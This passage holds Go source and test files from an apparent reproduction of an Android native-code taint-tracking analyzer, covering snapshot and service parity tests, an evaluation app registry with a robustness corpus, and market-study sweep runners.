	"repro/internal/static"
)

func logOf(r core.AppReport) string {
	return strings.Join(r.Final.Result.LogLines, "\n")
}

// TestSnapshotParity is the fork-server soundness gate (same discipline as
// the PR 2 gate and PR 5 pin parity suites): for every app in the registry —
// benign and hostile — and every analysis mode, an attempt served from a
// snapshot-restored System must produce the same verdict, the same
// degradation chain, and a byte-identical flow log as a fresh-NewSystem run.
// Each mode reuses one Runner across the whole corpus, so later apps run on a
// System that has been dirtied and restored many times.
func TestSnapshotParity(t *testing.T) {
	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	for _, mode := range modes {
		mode := mode
		t.Run(mode.String(), func(t *testing.T) {
			runner, err := core.NewRunner()
			if err != nil {
				t.Fatal(err)
			}
			for _, app := range apps.AllApps() {
				fresh := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true})
				snap := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true, Runner: runner})

				if fresh.Verdict() != snap.Verdict() {
					t.Errorf("%s: verdict fresh=%v snapshot=%v", app.Name, fresh.Verdict(), snap.Verdict())
				}
				if fresh.ChainString() != snap.ChainString() {
					t.Errorf("%s: chain fresh=[%s] snapshot=[%s]", app.Name, fresh.ChainString(), snap.ChainString())
				}
				fl, sl := logOf(fresh), logOf(snap)
				if fl != sl {
					line := firstDiffLine(fl, sl)
					t.Errorf("%s: flow log diverged at %q", app.Name, line)
				}
			}
			if runner.Stats.Resets == 0 {
				t.Error("runner served no resets")
			}
		})
	}
}

func firstDiffLine(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := 0; i < len(al) && i < len(bl); i++ {
		if al[i] != bl[i] {
			return al[i] + " vs " + bl[i]
		}
	}
	return "length mismatch"
}

// TestSnapshotParityWithPins runs the parity check under the static
// pre-analysis at pin level: the Runner serves repeat installs of the same
// dex from its digest cache (name-keyed ReApply) and must still match the
// fresh path — which re-runs static.Analyze every attempt — byte for byte.
func TestSnapshotParityWithPins(t *testing.T) {
	runner, err := core.NewRunner()
	if err != nil {
		t.Fatal(err)
	}
	app, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	opts := core.AnalyzeOptions{Budget: testBudget, FlowLog: true, Static: static.PinLevel}
	fresh := core.AnalyzeApp(app.Spec(), opts)

	optsSnap := opts
	optsSnap.Runner = runner
	first := core.AnalyzeApp(app.Spec(), optsSnap)
	second := core.AnalyzeApp(app.Spec(), optsSnap)

	for i, r := range []core.AppReport{first, second} {
		if r.Verdict() != fresh.Verdict() {
			t.Errorf("run %d: verdict %v, fresh %v", i, r.Verdict(), fresh.Verdict())
		}
		if logOf(r) != logOf(fresh) {
			t.Errorf("run %d: flow log diverged from fresh pin run", i)
		}
		if len(r.Final.Result.StaticViolations) != 0 {
			t.Errorf("run %d: static violations %v", i, r.Final.Result.StaticViolations)
		}
	}
	if fresh.Final.Result.Static.PinnedMethods > 0 &&
		second.Final.Result.Static.PinnedMethods != fresh.Final.Result.Static.PinnedMethods {
		t.Errorf("cached static result pins %d methods, fresh %d",
			second.Final.Result.Static.PinnedMethods, fresh.Final.Result.Static.PinnedMethods)
	}

	if runner.Stats.StaticRuns != 1 {
		t.Errorf("StaticRuns = %d, want 1 (second install should hit the digest cache)", runner.Stats.StaticRuns)
	}
	if runner.Stats.StaticReuses != 1 {
		t.Errorf("StaticReuses = %d, want 1", runner.Stats.StaticReuses)
	}
	// The cached pins must actually be re-seeded on the restored System.
	if fresh.Final.Result.Static.PinnedMethods > 0 && runner.System().VM.PinnedCleanCount() == 0 {
		t.Error("no clean pins on the VM after cache-served ReApply")
	}
}

// TestSnapshotResetCost checks the performance contract behind the fork
// server: a reset rewinds only the pages the attempt dirtied, which must be
// far fewer than the pages a warm boot maps.
func TestSnapshotResetCost(t *testing.T) {
	runner, err := core.NewRunner()
	if err != nil {
		t.Fatal(err)
	}
	app, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	opts := core.AnalyzeOptions{Budget: testBudget, Runner: runner}
	core.AnalyzeApp(app.Spec(), opts)
	core.AnalyzeApp(app.Spec(), opts) // second attempt restores the first's dirt
	total := runner.System().Mem.MappedPages()
	if runner.Stats.Resets < 2 {
		t.Fatalf("resets = %d, want >= 2", runner.Stats.Resets)
	}
	perReset := runner.Stats.GuestPagesReset / runner.Stats.Resets
	if perReset >= total {
		t.Errorf("reset copies %d pages per reset, not less than the %d mapped", perReset, total)
	}
	if runner.Stats.Boots != 1 {
		t.Errorf("boots = %d, want 1", runner.Stats.Boots)
	}
}

// TestRunStudyParallelDeterminism checks the per-worker-clone sweep: any
// worker count produces the same per-app verdicts and flow logs as the
// sequential fresh-System sweep, with rows in corpus order.
func TestRunStudyParallelDeterminism(t *testing.T) {
	seq := apps.RunStudy(apps.StudyOptions{Budget: testBudget, FlowLog: true})
	par := apps.RunStudyParallel(apps.StudyOptions{Budget: testBudget, FlowLog: true, Snapshot: true}, 3)

	if len(seq.Rows) != len(par.Rows) {
		t.Fatalf("row counts differ: %d vs %d", len(seq.Rows), len(par.Rows))
	}
	for i := range seq.Rows {
		s, p := seq.Rows[i], par.Rows[i]
		if s.App.Name != p.App.Name {
			t.Fatalf("row %d: order differs: %s vs %s", i, s.App.Name, p.App.Name)
		}
		if s.Report.Verdict() != p.Report.Verdict() {
			t.Errorf("%s: verdict %v vs %v", s.App.Name, s.Report.Verdict(), p.Report.Verdict())
		}
		if logOf(s.Report) != logOf(p.Report) {
			t.Errorf("%s: parallel snapshot flow log diverged", s.App.Name)
		}
	}
	if par.RunnerStats.Resets == 0 {
		t.Error("parallel snapshot sweep served no resets")
	}
}
