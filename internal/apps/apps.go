// Package apps contains the synthetic evaluation applications: one app per
// information-flow topology of the paper's Table I (cases 1, 1', 2, 3, 4),
// modeled on the real apps of §VI (QQPhoneBook, ePhone) and the two PoC apps,
// plus a benign control. Each app has a Dalvik half (built with the dex
// builder) and a native half (assembled ARM), wired through JNI.
package apps

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/taint"
)

// App describes one runnable evaluation app.
type App struct {
	Name string
	Desc string
	// Case is the Table I scenario: "1", "1'", "2", "3", "4", or "benign".
	Case string

	// EntryClass/EntryMethod is the driver entry point (a static ()V method).
	EntryClass  string
	EntryMethod string

	// ExpectTag is the taint that should reach a sink (0 for benign).
	ExpectTag taint.Tag
	// ExpectSink names the sink that should fire under NDroid.
	ExpectSink string
	// DetectedByTaintDroid records whether plain TaintDroid catches the leak
	// (per §IV, only case 1).
	DetectedByTaintDroid bool

	// Hostile marks the robustness corpus: apps constructed to hang or crash
	// the analysis rather than leak.
	Hostile bool
	// ExpectVerdict is the verdict core.AnalyzeApp should reach under the
	// default (NDroid) mode; zero means "derive from ExpectTag" (leak when a
	// tag is expected, clean otherwise).
	ExpectVerdict core.Verdict

	install func(sys *core.System) error
}

// Install loads the app's classes and native library into a system.
func (a *App) Install(sys *core.System) error { return a.install(sys) }

// Spec adapts the app to the core layer's contained-analysis entry point.
func (a *App) Spec() core.AppSpec {
	return core.AppSpec{
		Name:        a.Name,
		EntryClass:  a.EntryClass,
		EntryMethod: a.EntryMethod,
		Install:     a.install,
	}
}

// ExpectedVerdict is the verdict the app should produce under NDroid.
func (a *App) ExpectedVerdict() core.Verdict {
	if a.ExpectVerdict != 0 {
		return a.ExpectVerdict
	}
	if a.ExpectTag != 0 {
		return core.VerdictLeak
	}
	return core.VerdictClean
}

// Run invokes the app's entry point.
func (a *App) Run(sys *core.System) error {
	_, _, thrown, err := sys.VM.InvokeByName(a.EntryClass, a.EntryMethod, nil, nil)
	if err != nil {
		return fmt.Errorf("apps: running %s: %w", a.Name, err)
	}
	if thrown != nil {
		return fmt.Errorf("apps: %s threw an uncaught exception", a.Name)
	}
	return nil
}

// Registry returns all evaluation apps, in a stable order.
func Registry() []*App {
	return []*App{
		Case1App(),
		QQPhoneBookApp(),
		EPhoneApp(),
		PoCCase2App(),
		PoCCase3App(),
		Case3PullApp(),
		Case4App(),
		RebindApp(),
		BenignApp(),
		SummixApp(),
		SumfoldApp(),
		SumfloatApp(),
	}
}

// HostileRegistry returns the robustness corpus: apps built to take the
// analyzer down (runaway native loops, wild pointers, malformed bytecode).
// The market study runs them alongside the benign registry to prove fault
// containment.
func HostileRegistry() []*App {
	return []*App{
		HostileSpinApp(),
		HostileWildApp(),
		HostileDexApp(),
		HostileRaspApp(),
		HostileReflectApp(),
		HostileSmcApp(),
		HostilePinswapApp(),
		HostileSumdodgeApp(),
	}
}

// AllApps returns the benign registry followed by the hostile corpus.
func AllApps() []*App {
	return append(Registry(), HostileRegistry()...)
}

// ByName finds an app in the combined registry.
func ByName(name string) (*App, bool) {
	for _, a := range AllApps() {
		if a.Name == name {
			return a, true
		}
	}
	return nil, false
}
