package apps

import (
	"fmt"
	"strings"
	"sync"

	"repro/internal/core"
	"repro/internal/static"
)

// StudyOptions configures a market-study sweep over a corpus.
type StudyOptions struct {
	// Mode is the starting analysis mode (default ModeNDroid); hostile apps
	// may degrade below it.
	Mode core.Mode
	// Budget overrides core.DefaultBudget when nonzero.
	Budget uint64
	// FlowLog captures per-app flow logs.
	FlowLog bool
	// Static selects the pre-analysis level for every app (off/lint/pin).
	Static static.Level
	// Apps is the corpus; nil means AllApps() (benign + hostile).
	Apps []*App
	// Snapshot serves attempts from a boot-once fork server (core.Runner)
	// instead of a fresh System per attempt. Verdicts and flow logs are
	// byte-identical either way; only throughput changes.
	Snapshot bool
}

// StudyRow is one app's contained outcome.
type StudyRow struct {
	App    *App
	Report core.AppReport
}

// StudyReport aggregates a sweep: per-app rows plus the fault/timeout and
// degradation statistics the market study reports.
type StudyReport struct {
	Rows []StudyRow

	Clean    int
	Leaks    int
	Faults   int
	Timeouts int

	// Degraded counts apps that finished below their starting mode;
	// Attempts counts analysis runs including retries and degradation steps.
	Degraded int
	Attempts int

	// RunnerStats aggregates fork-server work (boots, resets, pages copied)
	// across all workers when the sweep ran with Snapshot; zero otherwise.
	RunnerStats core.RunnerStats
	// Workers is how many parallel workers served the sweep (1 = sequential).
	Workers int
}

// RunStudy analyzes every app in the corpus under per-app isolation: each
// app (and each attempt within an app) gets a fresh System, and any fault it
// raises is contained to its own report. A corpus with hostile members
// always completes.
func RunStudy(opts StudyOptions) *StudyReport {
	return RunStudyParallel(opts, 1)
}

// RunStudyParallel runs the sweep across workers, each serving its share of
// the corpus from its own fork server (per-worker System clone) when
// opts.Snapshot is set. Rows keep corpus order and every app's outcome is
// independent of worker assignment, so the report is deterministic for any
// worker count.
func RunStudyParallel(opts StudyOptions, workers int) *StudyReport {
	corpus := opts.Apps
	if corpus == nil {
		corpus = AllApps()
	}
	if workers < 1 {
		workers = 1
	}
	if workers > len(corpus) && len(corpus) > 0 {
		workers = len(corpus)
	}

	rows := make([]StudyRow, len(corpus))
	stats := make([]core.RunnerStats, workers)
	idx := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			var runner *core.Runner
			if opts.Snapshot {
				// A failed warm boot falls back to fresh-System attempts; the
				// per-attempt path reports any recurring boot fault itself.
				runner, _ = core.NewRunner()
			}
			for i := range idx {
				rows[i] = StudyRow{App: corpus[i], Report: core.AnalyzeApp(corpus[i].Spec(), core.AnalyzeOptions{
					Mode:    opts.Mode,
					Budget:  opts.Budget,
					FlowLog: opts.FlowLog,
					Static:  opts.Static,
					Runner:  runner,
				})}
			}
			if runner != nil {
				stats[w] = runner.Stats
			}
		}(w)
	}
	for i := range corpus {
		idx <- i
	}
	close(idx)
	wg.Wait()

	rep := &StudyReport{Rows: rows, Workers: workers}
	for _, s := range stats {
		rep.RunnerStats.Boots += s.Boots
		rep.RunnerStats.Resets += s.Resets
		rep.RunnerStats.GuestPagesReset += s.GuestPagesReset
		rep.RunnerStats.TaintPagesReset += s.TaintPagesReset
		rep.RunnerStats.StaticRuns += s.StaticRuns
		rep.RunnerStats.StaticReuses += s.StaticReuses
	}
	for _, row := range rep.Rows {
		r := row.Report
		rep.Attempts += len(r.Chain)
		if r.Degraded {
			rep.Degraded++
		}
		switch r.Verdict() {
		case core.VerdictClean:
			rep.Clean++
		case core.VerdictLeak:
			rep.Leaks++
		case core.VerdictFault:
			rep.Faults++
		case core.VerdictTimeout:
			rep.Timeouts++
		}
	}
	return rep
}

// String renders the study as the per-app verdict table plus totals.
func (r *StudyReport) String() string {
	var b strings.Builder
	for _, row := range r.Rows {
		res := row.Report.Final.Result
		fmt.Fprintf(&b, "%-14s %-8s chain=[%s]", row.App.Name, r.verdictCell(row), row.Report.ChainString())
		if res.Fault != nil {
			fmt.Fprintf(&b, " fault=%v", res.Fault)
		}
		fmt.Fprintf(&b, " java=%d native=%d log=%d\n", res.JavaInsns, res.NativeInsns, len(res.LogLines))
	}
	fmt.Fprintf(&b, "apps=%d clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d\n",
		len(r.Rows), r.Clean, r.Leaks, r.Faults, r.Timeouts, r.Degraded, r.Attempts)
	return b.String()
}

func (r *StudyReport) verdictCell(row StudyRow) string {
	return row.Report.Verdict().String()
}
