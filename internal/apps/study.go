package apps

import (
	"fmt"
	"strings"

	"repro/internal/core"
	"repro/internal/static"
)

// StudyOptions configures a market-study sweep over a corpus.
type StudyOptions struct {
	// Mode is the starting analysis mode (default ModeNDroid); hostile apps
	// may degrade below it.
	Mode core.Mode
	// Budget overrides core.DefaultBudget when nonzero.
	Budget uint64
	// FlowLog captures per-app flow logs.
	FlowLog bool
	// Static selects the pre-analysis level for every app (off/lint/pin).
	Static static.Level
	// Apps is the corpus; nil means AllApps() (benign + hostile).
	Apps []*App
}

// StudyRow is one app's contained outcome.
type StudyRow struct {
	App    *App
	Report core.AppReport
}

// StudyReport aggregates a sweep: per-app rows plus the fault/timeout and
// degradation statistics the market study reports.
type StudyReport struct {
	Rows []StudyRow

	Clean    int
	Leaks    int
	Faults   int
	Timeouts int

	// Degraded counts apps that finished below their starting mode;
	// Attempts counts analysis runs including retries and degradation steps.
	Degraded int
	Attempts int
}

// RunStudy analyzes every app in the corpus under per-app isolation: each
// app (and each attempt within an app) gets a fresh System, and any fault it
// raises is contained to its own report. A corpus with hostile members
// always completes.
func RunStudy(opts StudyOptions) *StudyReport {
	corpus := opts.Apps
	if corpus == nil {
		corpus = AllApps()
	}
	rep := &StudyReport{}
	for _, app := range corpus {
		r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
			Mode:    opts.Mode,
			Budget:  opts.Budget,
			FlowLog: opts.FlowLog,
			Static:  opts.Static,
		})
		rep.Rows = append(rep.Rows, StudyRow{App: app, Report: r})
		rep.Attempts += len(r.Chain)
		if r.Degraded {
			rep.Degraded++
		}
		switch r.Verdict() {
		case core.VerdictClean:
			rep.Clean++
		case core.VerdictLeak:
			rep.Leaks++
		case core.VerdictFault:
			rep.Faults++
		case core.VerdictTimeout:
			rep.Timeouts++
		}
	}
	return rep
}

// String renders the study as the per-app verdict table plus totals.
func (r *StudyReport) String() string {
	var b strings.Builder
	for _, row := range r.Rows {
		res := row.Report.Final.Result
		fmt.Fprintf(&b, "%-14s %-8s chain=[%s]", row.App.Name, r.verdictCell(row), row.Report.ChainString())
		if res.Fault != nil {
			fmt.Fprintf(&b, " fault=%v", res.Fault)
		}
		fmt.Fprintf(&b, " java=%d native=%d log=%d\n", res.JavaInsns, res.NativeInsns, len(res.LogLines))
	}
	fmt.Fprintf(&b, "apps=%d clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d\n",
		len(r.Rows), r.Clean, r.Leaks, r.Faults, r.Timeouts, r.Degraded, r.Attempts)
	return b.String()
}

func (r *StudyReport) verdictCell(row StudyRow) string {
	return row.Report.Verdict().String()
}
