package apps

import (
	"fmt"
	"strings"
	"sync"

	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/service"
	"repro/internal/static"
)

// StudyOptions configures a market-study sweep over a corpus.
type StudyOptions struct {
	// Mode is the starting analysis mode (default ModeNDroid); hostile apps
	// may degrade below it.
	Mode core.Mode
	// Budget overrides core.DefaultBudget when nonzero.
	Budget uint64
	// FlowLog captures per-app flow logs.
	FlowLog bool
	// Static selects the pre-analysis level for every app (off/lint/pin).
	Static static.Level
	// Summaries selects the auto-generated native taint summary mode for
	// every app (off/static/validated). Flow logs and verdicts are
	// byte-identical across settings; the per-lib synthesis table lands in
	// each row's RunResult.Summary.
	Summaries core.SummaryMode
	// Apps is the corpus; nil means AllApps() (benign + hostile).
	Apps []*App
	// Snapshot serves attempts from a boot-once fork server (core.Runner)
	// instead of a fresh System per attempt. Verdicts and flow logs are
	// byte-identical either way; only throughput changes.
	Snapshot bool
	// Cache wires the per-worker fork servers to a persistent artifact store
	// (static results, assembled libraries, validation verdicts). Setting it
	// implies Snapshot. Artifacts never change outcomes — only cost.
	Cache *cas.Store
}

// StudyRow is one app's contained outcome.
type StudyRow struct {
	App    *App
	Report core.AppReport
}

// StudyReport aggregates a sweep: per-app rows plus the fault/timeout and
// degradation statistics the market study reports.
type StudyReport struct {
	Rows []StudyRow

	Clean    int
	Leaks    int
	Faults   int
	Timeouts int

	// Degraded counts apps that finished below their starting mode;
	// Attempts counts analysis runs including retries and degradation steps.
	Degraded int
	Attempts int

	// RunnerStats aggregates fork-server work (boots, resets, pages copied)
	// across all workers when the sweep ran with Snapshot; zero otherwise.
	RunnerStats core.RunnerStats
	// Workers is how many parallel workers served the sweep (1 = sequential).
	Workers int
}

// RunStudy analyzes every app in the corpus under per-app isolation: each
// app (and each attempt within an app) gets a fresh System, and any fault it
// raises is contained to its own report. A corpus with hostile members
// always completes.
func RunStudy(opts StudyOptions) *StudyReport {
	return RunStudyParallel(opts, 1)
}

// RunStudyParallel runs the sweep across workers, each serving its share of
// the corpus from its own fork server (per-worker System clone) when
// opts.Snapshot is set. Rows keep corpus order and every app's outcome is
// independent of worker assignment, so the report is deterministic for any
// worker count.
func RunStudyParallel(opts StudyOptions, workers int) *StudyReport {
	corpus := opts.Apps
	if corpus == nil {
		corpus = AllApps()
	}
	if workers < 1 {
		workers = 1
	}
	if workers > len(corpus) && len(corpus) > 0 {
		workers = len(corpus)
	}

	rows := make([]StudyRow, len(corpus))
	stats := make([]core.RunnerStats, workers)
	idx := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			var runner *core.Runner
			if opts.Snapshot || opts.Cache != nil {
				// A failed warm boot falls back to fresh-System attempts; the
				// per-attempt path reports any recurring boot fault itself.
				runner, _ = core.NewCachedRunner(opts.Cache)
			}
			for i := range idx {
				rows[i] = StudyRow{App: corpus[i], Report: core.AnalyzeApp(corpus[i].Spec(), core.AnalyzeOptions{
					Mode:      opts.Mode,
					Budget:    opts.Budget,
					FlowLog:   opts.FlowLog,
					Static:    opts.Static,
					Summaries: opts.Summaries,
					Runner:    runner,
				})}
			}
			if runner != nil {
				stats[w] = runner.Stats
			}
		}(w)
	}
	for i := range corpus {
		idx <- i
	}
	close(idx)
	wg.Wait()

	rep := &StudyReport{Rows: rows, Workers: workers}
	for _, s := range stats {
		rep.RunnerStats.Boots += s.Boots
		rep.RunnerStats.Resets += s.Resets
		rep.RunnerStats.GuestPagesReset += s.GuestPagesReset
		rep.RunnerStats.TaintPagesReset += s.TaintPagesReset
		rep.RunnerStats.StaticRuns += s.StaticRuns
		rep.RunnerStats.StaticReuses += s.StaticReuses
		rep.RunnerStats.StaticDiskHits += s.StaticDiskHits
		rep.RunnerStats.DexValidations += s.DexValidations
		rep.RunnerStats.DexCheckHits += s.DexCheckHits
		rep.RunnerStats.AsmCacheHits += s.AsmCacheHits
		rep.RunnerStats.AsmAssembles += s.AsmAssembles
		rep.RunnerStats.CacheFaults += s.CacheFaults
		rep.RunnerStats.JNICrossings += s.JNICrossings
		rep.RunnerStats.SummarySynths += s.SummarySynths
		rep.RunnerStats.SummaryReuses += s.SummaryReuses
		rep.RunnerStats.SummaryDiskHits += s.SummaryDiskHits
	}
	rep.tally()
	return rep
}

// tally derives the aggregate verdict/degradation counters from Rows.
func (rep *StudyReport) tally() {
	for _, row := range rep.Rows {
		r := row.Report
		rep.Attempts += len(r.Chain)
		if r.Degraded {
			rep.Degraded++
		}
		switch r.Verdict() {
		case core.VerdictClean:
			rep.Clean++
		case core.VerdictLeak:
			rep.Leaks++
		case core.VerdictFault:
			rep.Faults++
		case core.VerdictTimeout:
			rep.Timeouts++
		}
	}
}

// RunStudyService runs the sweep through an analysis service: every app is
// Submitted, sharded by content digest across workers, and collected back in
// corpus order. With opts.Cache set, artifacts and verdict records persist in
// the store — a second sweep over the same corpus short-circuits entirely.
// Verdicts and flow logs are byte-identical to RunStudy/RunStudyParallel in
// every cache mode (the service parity suite holds this).
func RunStudyService(opts StudyOptions, workers int) (*StudyReport, service.Stats, error) {
	corpus := opts.Apps
	if corpus == nil {
		corpus = AllApps()
	}
	if workers < 1 {
		workers = 1
	}
	svc, err := service.New(service.Options{
		Workers: workers,
		Cache:   opts.Cache,
		Analyze: core.AnalyzeOptions{
			Mode:      opts.Mode,
			Budget:    opts.Budget,
			FlowLog:   opts.FlowLog,
			Static:    opts.Static,
			Summaries: opts.Summaries,
		},
	})
	if err != nil {
		return nil, service.Stats{}, err
	}
	chans := make([]<-chan service.Result, len(corpus))
	for i, app := range corpus {
		chans[i] = svc.Submit(app.Spec())
	}
	rep := &StudyReport{Rows: make([]StudyRow, len(corpus)), Workers: workers}
	for i, ch := range chans {
		res := <-ch
		if res.Err != nil {
			svc.Close()
			return nil, svc.Stats(), fmt.Errorf("apps: service submission %s: %w", corpus[i].Name, res.Err)
		}
		rep.Rows[i] = StudyRow{App: corpus[i], Report: res.Report}
	}
	svc.Close()
	st := svc.Stats()
	rep.RunnerStats = st.Runner
	rep.tally()
	return rep, st, nil
}

// SharedLibVariant derives an app shipping byte-identical native libraries
// under different dex content: Install additionally registers a padding
// class, so the app/dex/static digests all move while every LibPrint stays
// the same. A warm-store run of the variant must therefore reuse all
// assembled images (zero assembler runs) yet recompute everything dex- and
// app-scoped — the shared-library leg of the cache ablation.
func SharedLibVariant(app *App) *App {
	v := *app
	v.Name = app.Name + "+sharedlib"
	inner := app.install
	v.install = func(sys *core.System) error {
		if err := inner(sys); err != nil {
			return err
		}
		cb := dex.NewClass("Lcom/ndroid/variant/Pad;")
		cb.Method("pad", "I", dex.AccStatic, 1).
			Const(0, 9).
			Return(0).
			Done()
		sys.VM.RegisterClass(cb.Build())
		return nil
	}
	return &v
}

// String renders the study as the per-app verdict table plus totals.
func (r *StudyReport) String() string {
	var b strings.Builder
	for _, row := range r.Rows {
		res := row.Report.Final.Result
		fmt.Fprintf(&b, "%-14s %-8s chain=[%s]", row.App.Name, r.verdictCell(row), row.Report.ChainString())
		if res.Fault != nil {
			fmt.Fprintf(&b, " fault=%v", res.Fault)
		}
		fmt.Fprintf(&b, " java=%d native=%d log=%d\n", res.JavaInsns, res.NativeInsns, len(res.LogLines))
	}
	fmt.Fprintf(&b, "apps=%d clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d\n",
		len(r.Rows), r.Clean, r.Leaks, r.Faults, r.Timeouts, r.Degraded, r.Attempts)
	return b.String()
}

func (r *StudyReport) verdictCell(row StudyRow) string {
	return row.Report.Verdict().String()
}
