package apps_test

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/static"
)

func rowOutcome(row apps.StudyRow) appOutcome {
	return appOutcome{
		verdict: row.Report.Verdict(),
		log:     strings.Join(row.Report.Final.Result.LogLines, "\n"),
	}
}

// TestServiceParity is the service-mode isolation proof: the full corpus
// (benign + hostile), swept under every analysis mode, must produce
// byte-identical flow logs, verdicts, chains, and tallies whether it runs
// through RunStudyParallel, a cold-cache service, or a warm-cache service
// that answers everything from verdict records.
func TestServiceParity(t *testing.T) {
	modes := []core.Mode{core.ModeNDroid, core.ModeTaintDroid, core.ModeVanilla, core.ModeDroidScope}
	for _, mode := range modes {
		mode := mode
		t.Run(mode.String(), func(t *testing.T) {
			opts := apps.StudyOptions{Mode: mode, Budget: testBudget, FlowLog: true}
			base := apps.RunStudyParallel(opts, 2)

			store, err := cas.Open(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			cached := opts
			cached.Cache = store
			cold, coldStats, err := apps.RunStudyService(cached, 3)
			if err != nil {
				t.Fatal(err)
			}
			warm, warmStats, err := apps.RunStudyService(cached, 3)
			if err != nil {
				t.Fatal(err)
			}

			for name, rep := range map[string]*apps.StudyReport{"cold": cold, "warm": warm} {
				if len(rep.Rows) != len(base.Rows) {
					t.Fatalf("%s: %d rows, baseline %d", name, len(rep.Rows), len(base.Rows))
				}
				for i, row := range rep.Rows {
					bRow := base.Rows[i]
					if row.App.Name != bRow.App.Name {
						t.Fatalf("%s: row %d is %s, baseline %s", name, i, row.App.Name, bRow.App.Name)
					}
					got, want := rowOutcome(row), rowOutcome(bRow)
					if got.verdict != want.verdict {
						t.Errorf("%s: %s verdict %v, baseline %v", name, row.App.Name, got.verdict, want.verdict)
					}
					if got.log != want.log {
						t.Errorf("%s: %s flow log diverged from the baseline", name, row.App.Name)
					}
					if row.Report.ChainString() != bRow.Report.ChainString() {
						t.Errorf("%s: %s chain %s, baseline %s", name,
							row.App.Name, row.Report.ChainString(), bRow.Report.ChainString())
					}
					if row.Report.Degraded != bRow.Report.Degraded {
						t.Errorf("%s: %s degraded=%t, baseline %t", name,
							row.App.Name, row.Report.Degraded, bRow.Report.Degraded)
					}
				}
				if rep.Clean != base.Clean || rep.Leaks != base.Leaks ||
					rep.Faults != base.Faults || rep.Timeouts != base.Timeouts ||
					rep.Degraded != base.Degraded || rep.Attempts != base.Attempts {
					t.Errorf("%s tallies clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d, baseline clean=%d leak=%d fault=%d timeout=%d degraded=%d attempts=%d",
						name, rep.Clean, rep.Leaks, rep.Faults, rep.Timeouts, rep.Degraded, rep.Attempts,
						base.Clean, base.Leaks, base.Faults, base.Timeouts, base.Degraded, base.Attempts)
				}
			}

			if coldStats.Computed != len(base.Rows) {
				t.Errorf("cold sweep computed %d of %d apps", coldStats.Computed, len(base.Rows))
			}
			if warmStats.Computed != 0 || warmStats.VerdictHits != len(base.Rows) {
				t.Errorf("warm sweep computed=%d verdictHits=%d, want 0/%d",
					warmStats.Computed, warmStats.VerdictHits, len(base.Rows))
			}
		})
	}
}

// TestSharedLibVariantReusesAssembledImages: an app that shares its native
// libraries with an already-analyzed app (but ships different dex) must be
// served every assembled image from the store — zero assembler runs — while
// all dex- and app-scoped artifacts are recomputed.
func TestSharedLibVariantReusesAssembledImages(t *testing.T) {
	base, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}

	cold := apps.RunStudy(apps.StudyOptions{
		Budget: testBudget, FlowLog: true, Static: static.PinLevel,
		Cache: store, Apps: []*apps.App{base}})
	if cold.RunnerStats.AsmAssembles == 0 {
		t.Fatal("cold run assembled nothing; the ablation has no baseline")
	}

	variant := apps.SharedLibVariant(base)
	rep := apps.RunStudy(apps.StudyOptions{
		Budget: testBudget, FlowLog: true, Static: static.PinLevel,
		Cache: store, Apps: []*apps.App{variant}})

	if rep.RunnerStats.AsmAssembles != 0 {
		t.Errorf("shared-lib variant ran the assembler %d times, want 0", rep.RunnerStats.AsmAssembles)
	}
	if rep.RunnerStats.AsmCacheHits == 0 {
		t.Error("shared-lib variant never hit the assembled-image store")
	}
	if rep.RunnerStats.StaticDiskHits != 0 {
		t.Error("variant resolved a static result for a different app digest")
	}
	if rep.RunnerStats.StaticRuns == 0 {
		t.Error("variant never ran its own static analysis")
	}
	if got, want := rep.Rows[0].Report.Verdict(), cold.Rows[0].Report.Verdict(); got != want {
		t.Errorf("variant verdict %v, base %v — padding class changed behavior", got, want)
	}
}
