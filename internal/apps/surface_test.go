package apps_test

// The surface-map determinism and flood-resistance suite. The invariant
// throughout: the JNI surface map is a *derived artifact* of the analysis —
// it must be byte-identical across execution strategies (fused/unfused,
// snapshot-served, parallel worker counts, warm service replays) and bounded
// under hostile flooding, and it must never perturb verdicts or flow logs.

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/fault"
	"repro/internal/service"
	"repro/internal/static"
	"repro/internal/surface"
)

// TestRaspFloodBoundedUnderThrottling is the tentpole acceptance check: the
// RASP integrity loop makes tens of thousands of JNI crossings, yet the
// throttled observer spends at most the event budget, flags truncation as
// typed verdict-visible degradation, and still discovers every boundary. The
// unthrottled baseline attempts an event per call and demonstrably blows
// past the budget.
func TestRaspFloodBoundedUnderThrottling(t *testing.T) {
	app, ok := apps.ByName("hostile-rasp")
	if !ok {
		t.Fatal("hostile-rasp missing")
	}

	r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
	if r.Verdict() != core.VerdictClean {
		t.Fatalf("verdict = %v, want clean (chain %s)", r.Verdict(), r.ChainString())
	}
	m := r.Final.Result.Surface
	if m == nil {
		t.Fatal("no surface map")
	}
	if !m.Truncated {
		t.Error("throttled flood map not truncated: the RASP loop should exceed the event budget")
	}
	if m.Events > surface.DefaultEventBudget {
		t.Errorf("events = %d, want <= budget %d", m.Events, surface.DefaultEventBudget)
	}
	if want := uint64(3 * 8192); m.Calls != want {
